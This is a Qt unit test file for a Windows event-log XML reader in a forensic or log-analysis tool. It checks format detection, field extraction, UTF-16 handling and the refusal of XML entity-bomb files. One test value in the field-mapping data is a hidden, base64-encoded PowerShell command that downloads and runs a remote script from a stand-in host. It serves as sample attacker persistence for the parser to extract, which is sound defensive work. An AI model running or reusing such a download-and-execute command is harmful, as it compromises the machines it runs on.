#include "ReaderTestSupport.h"

#include "ingest/FormatRegistry.h"
#include "ingest/WindowsEventXmlReader.h"

#include <QTest>

using namespace tb;
using namespace tb::testing;

class TestWindowsEventXmlReader : public QObject {
    Q_OBJECT

    static QString sample(const char *name) {
        return QStringLiteral(TEST_DATA_DIR "/formats/windows/") + QLatin1String(name);
    }
    static QString native(const char *name) {
        return QStringLiteral(TEST_DATA_DIR "/native/windows/") + QLatin1String(name);
    }
    static ReadResult read(const QString &path) { return readFile(factory<WindowsEventXmlReader>(), path); }
    // As the importer reads it: through the UTF-16 decoding device when the file starts with a BOM.
    static ReadResult readDecoded(const QString &path) {
        QFile input(path);
        if (!input.open(QIODevice::ReadOnly))
            return {};
        std::unique_ptr<QIODevice> decoded;
        QIODevice *device = FormatRegistry::textDevice(&input, head(path), decoded);
        return readAll(factory<WindowsEventXmlReader>(), device, ReaderContext(QStringLiteral("f")));
    }

    static QByteArray event(int recordId) {
        return "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
               "<Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4688</EventID>"
               "<TimeCreated SystemTime='2025-03-04T09:41:17.3994721Z'/><EventRecordID>" +
               QByteArray::number(recordId) +
               "</EventRecordID><Channel>Security</Channel><Computer>WKS-1</Computer></System>"
               "<EventData><Data Name='NewProcessName'>C:\\Windows\\System32\\schtasks.exe</Data>"
               "</EventData></Event>";
    }

private slots:
    void detects_data() {
        QTest::addColumn<QByteArray>("head");
        QTest::addColumn<QString>("format");
        QTest::newRow("wevtutil, <Events> root")
            << head(sample("security_4698-4702_wevtutil.xml")) << "windows.event.xml";
        QTest::newRow("no root, CRLF")
            << head(sample("sysmon_1_11_13_wevtutil_noroot.xml")) << "windows.event.xml";
        QTest::newRow("evtxexport banner")
            << head(sample("taskscheduler_operational_evtxexport.txt")) << "evtx.libevtx_export";
        QTest::newRow("python-evtx, XML 1.1")
            << head(native("python_evtx_dump.xml")) << "evtx.python_evtx_dump";
        QTest::newRow("declaration 1.0, then <Events>")
            << QByteArray("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Events><Event xmlns='x'/></Events>")
            << "windows.event.xml";
        QTest::newRow("DOCTYPE in front: refused by name later")
            << head(native("entity_bomb.xml")) << "windows.event.xml";
        QTest::newRow("Splunk results stay Splunk")
            << QByteArray("<?xml version='1.0' encoding='UTF-8'?>\n<results preview='0'>")
            << "splunk.results.xml";
        QTest::newRow("EventData is no root") << QByteArray("<EventData><Data/></EventData>") << "";
    }
    void detects() {
        QFETCH(QByteArray, head);
        QFETCH(QString, format);
        const ImportFormat *detected = FormatRegistry::instance().detect(FileHead::fromBytes(head));
        QCOMPARE(detected ? detected->id : QString(), format);
    }

    void readsEveryContainer_data() {
        QTest::addColumn<QString>("file");
        QTest::addColumn<int>("count");
        QTest::addColumn<int>("firstLine");
        QTest::newRow("<Events> root") << sample("security_4698-4702_wevtutil.xml") << 12 << 2;
        QTest::newRow("no root") << sample("sysmon_1_11_13_wevtutil_noroot.xml") << 9 << 1;
        QTest::newRow("evtxexport") << sample("taskscheduler_operational_evtxexport.txt") << 10 << 3;
        QTest::newRow("python-evtx") << native("python_evtx_dump.xml") << 2 << 4;
    }
    void readsEveryContainer() {
        QFETCH(QString, file);
        QFETCH(int, count);
        QFETCH(int, firstLine);
        const ReadResult result = read(file);
        QVERIFY2(result.issues.isEmpty(), qPrintable(result.issueText(0)));
        QCOMPARE(result.last, EventReader::Status::End);
        QCOMPARE(result.events.size(), count);
        for (int i = 0; i < count; ++i) {
            const NormalizedEvent &e = result.events[i];
            QCOMPARE(e.recordNo, i);
            QVERIFY(e.raw.startsWith(QLatin1String("<Event ")));
            QVERIFY(e.raw.endsWith(QLatin1String("</Event>")));
            QCOMPARE(e.value(EventField::Platform), QStringLiteral("windows"));
            QCOMPARE(e.value(EventField::TimeConfidence), QStringLiteral("exact"));
            QVERIFY(!e.identity.isEmpty());
        }
        // Record 0 starts on the line the analyst would look at.
        QFile f(file);
        QVERIFY(f.open(QIODevice::ReadOnly));
        const QList<QByteArray> lines = f.readAll().split('\n');
        QVERIFY(lines.value(firstLine - 1).contains("<Event "));
    }

    void mapsFields_data() {
        QTest::addColumn<QString>("file");
        QTest::addColumn<int>("record");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        const QString python = native("python_evtx_dump.xml");
        QTest::newRow("python-evtx time without T or Z is UTC") << python << 0 << "time_utc"
                                                                << "2025-03-04T09:41:17.402113Z";
        QTest::newRow("python-evtx original time") << python << 0 << "time_original"
                                                   << "2025-03-04 09:41:17.402113";
        QTest::newRow("task name") << python << 0 << "task_name"
                                   << "\\WindowsDefenderUpdate";
        QTest::newRow("task action from CRLF TaskContent")
            << python << 0 << "task_action"
            << "powershell.exe -nop -w hidden -enc "
               "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuA"
               "G"
               "wAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA1ADAALwBhAC4AcAB"
               "zA"
               "DEAJwApAA==";
        QTest::newRow("run as") << python << 0 << "task_run_as"
                                << "NT AUTHORITY\\SYSTEM";
        QTest::newRow("run level") << python << 0 << "task_run_level"
                                   << "HighestAvailable";
        QTest::newRow("created") << python << 0 << "task_operation"
                                 << "created";
        QTest::newRow("deleted") << python << 1 << "task_operation"
                                 << "deleted";
        QTest::newRow("user") << python << 0 << "user"
                              << "jdoe";
        QTest::newRow("domain") << python << 0 << "user_domain"
                                << "CORP";
        QTest::newRow("client pid") << python << 0 << "process_pid"
                                    << "7424";
        QTest::newRow("host") << python << 1 << "host"
                              << "wks-fin-023";
        QTest::newRow("record id") << python << 1 << "record_id"
                                   << "1105922";
        QTest::newRow("evtxexport 106 task")
            << sample("taskscheduler_operational_evtxexport.txt") << 1 << "task_name"
            << "\\WindowsDefenderUpdate";
        QTest::newRow("evtxexport user context")
            << sample("taskscheduler_operational_evtxexport.txt") << 1 << "user"
            << "jdoe";
        QTest::newRow("no-root sysmon command line")
            << sample("sysmon_1_11_13_wevtutil_noroot.xml") << 1 << "task_run_as"
            << "NT AUTHORITY\\SYSTEM";
        QTest::newRow("CDATA keeps its text") << native("malformed_and_cdata.xml") << 1 << "command_line"
                                              << "cmd /c echo </Event> & <b>";
    }
    void mapsFields() {
        QFETCH(QString, file);
        QFETCH(int, record);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        const ReadResult result = read(file);
        QVERIFY(record < result.events.size());
        QCOMPARE(value(result.events[record], column), expected);
    }

    // UTF-16 with a BOM (FORMATS.md §2: FF FE is UTF-16LE): Event Viewer's "Save As" XML (declaration
    // + <Events>) and `wevtutil qe ... /f:xml > file` in Windows PowerShell (no root). Detected from
    // the decoded head and read through the device the importer puts in front of the reader.
    void readsUtf16_data() {
        QTest::addColumn<QString>("file");
        QTest::addColumn<int>("count");
        QTest::addColumn<QString>("utf8Twin"); // the same events as UTF-8, compared field by field
        QTest::newRow("PowerShell redirection, no root") << native("sysmon_wevtutil_redirect_utf16le.xml")
                                                         << 9 << sample("sysmon_1_11_13_wevtutil_noroot.xml");
        QTest::newRow("Event Viewer, declaration and root")
            << native("security_4698_eventviewer_utf16le.xml") << 3 << QString();
    }
    void readsUtf16() {
        QFETCH(QString, file);
        QFETCH(int, count);
        QFETCH(QString, utf8Twin);
        const QByteArray bytes = head(file);
        const FileHead fileHead = FileHead::fromBytes(bytes);
        QVERIFY(fileHead.utf16);
        const ImportFormat *format = FormatRegistry::instance().detect(fileHead);
        QVERIFY(format);
        QCOMPARE(format->id, QStringLiteral("windows.event.xml"));

        const ReadResult result = readDecoded(file);
        QVERIFY2(result.issues.isEmpty(), qPrintable(result.issueText(0)));
        QCOMPARE(result.last, EventReader::Status::End);
        QCOMPARE(result.events.size(), count);
        if (utf8Twin.isEmpty())
            return;
        const ReadResult twin = read(utf8Twin);
        QCOMPARE(twin.events.size(), count);
        for (int i = 0; i < count; ++i) {
            QCOMPARE(result.events[i].raw, twin.events[i].raw);
            QCOMPARE(result.events[i].rawFields, twin.events[i].rawFields);
            for (int f = 0; f < eventFieldCount; ++f)
                QCOMPARE(result.events[i].fields[f], twin.events[i].fields[f]);
        }
    }

    void mapsUtf16Fields_data() {
        QTest::addColumn<int>("record");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        QTest::newRow("first event") << 0 << "task_name"
                                     << "\\Adobe Acrobat Update Task";
        QTest::newRow("scenario task") << 1 << "task_name"
                                       << "\\WindowsDefenderUpdate";
        QTest::newRow("scenario time") << 1 << "time_utc"
                                       << "2025-03-04T09:41:17.402113Z";
        QTest::newRow("non-ASCII task name") << 2 << "task_name"
                                             << "\\Jürgen\\Sicherung 🙂 ✓";
        QTest::newRow("non-ASCII action")
            << 2 << "task_action"
            << "C:\\Werkzeuge\\sicherung.exe --ziel \"D:\\Sicherung 🙂\" --größe 5";
        QTest::newRow("non-ASCII author") << 2 << "task_author"
                                          << "CORP\\jürgen";
        QTest::newRow("run as") << 2 << "task_run_as"
                                << "NT AUTHORITY\\SYSTEM";
    }
    void mapsUtf16Fields() {
        QFETCH(int, record);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        const ReadResult result = readDecoded(native("security_4698_eventviewer_utf16le.xml"));
        QVERIFY(record < result.events.size());
        QCOMPARE(value(result.events[record], column), expected);
    }

    void refusesOrSkips_data() {
        QTest::addColumn<QString>("file");
        QTest::addColumn<int>("events");
        QTest::addColumn<bool>("failed");
        QTest::addColumn<QString>("issue");
        QTest::newRow("billion laughs") << native("entity_bomb.xml") << 0 << true
                                        << "entity_bomb.xml:record 0: line 2: the file declares a DOCTYPE; "
                                           "Tunebench never expands XML entities, so it refuses the file";
        QTest::newRow("external entity")
            << native("external_entity.xml") << 0 << true
            << "external_entity.xml:record 0: line 1: the file declares a DOCTYPE; Tunebench never expands "
               "XML entities, so it refuses the file";
        QTest::newRow("entity between events, line named")
            << native("entity_between_events.xml") << 2 << true
            << "entity_between_events.xml:record 2: line 4: the file declares an XML entity (<!ENTITY); "
               "Tunebench never expands XML entities, so it refuses the file";
        QTest::newRow("TaskContent not XML")
            << native("taskcontent_not_xml.xml") << 0 << false
            << "taskcontent_not_xml.xml:record 0 (line 2): TaskContent: the task definition is not XML (it "
               "starts with \"this is not a task d\")";
        QTest::newRow("truncated") << native("truncated_noroot.xml") << 2 << true
                                   << "truncated_noroot.xml:record 2: line 3: the file ends inside the "
                                      "<Event> that starts here (truncated?)";
        QTest::newRow("one malformed event is skipped") << native("malformed_and_cdata.xml") << 2 << false
                                                        << "malformed_and_cdata.xml:record 1 (line 4): the "
                                                           "<Event> is not well-formed XML: Start-end tags "
                                                           "mismatch (at byte 678 of the element)";
    }
    void refusesOrSkips() {
        QFETCH(QString, file);
        QFETCH(int, events);
        QFETCH(bool, failed);
        QFETCH(QString, issue);
        const ReadResult result = read(file);
        QCOMPARE(result.events.size(), events);
        QCOMPARE(result.last, failed ? EventReader::Status::Failed : EventReader::Status::End);
        QCOMPARE(result.issues.size(), 1);
        QCOMPARE(result.issueText(0), issue);
    }

    void entitiesAreNeverExpanded() {
        // Without a DOCTYPE an entity reference is just text that pugixml leaves alone.
        QByteArray xml = event(1);
        xml.replace("schtasks.exe", "&xxe;&lol9;");
        const ReadResult result = readBytes(factory<WindowsEventXmlReader>(), xml);
        QCOMPARE(result.events.size(), 1);
        QCOMPARE(result.events[0].value(EventField::ProcessImage),
                 QStringLiteral("C:\\Windows\\System32\\&xxe;&lol9;"));
    }

    void streamsManyEvents() {
        QByteArray xml = "evtxexport 20181227\n\n";
        for (int i = 0; i < 20000; ++i)
            xml += event(i) + "\n\n";
        const ReadResult result = readBytes(factory<WindowsEventXmlReader>(), xml);
        QCOMPARE(result.events.size(), 20000);
        QCOMPARE(result.events.last().value(EventField::RecordId), QStringLiteral("19999"));
        QVERIFY(result.issues.isEmpty());
    }

    void emptyAndBannerOnly() {
        QCOMPARE(readBytes(factory<WindowsEventXmlReader>(), "evtxexport 20181227\n\n").events.size(), 0);
        QCOMPARE(readBytes(factory<WindowsEventXmlReader>(), "<Events></Events>").last,
                 EventReader::Status::End);
    }
};

QTEST_GUILESS_MAIN(TestWindowsEventXmlReader)
#include "tst_windowseventxmlreader.moc"
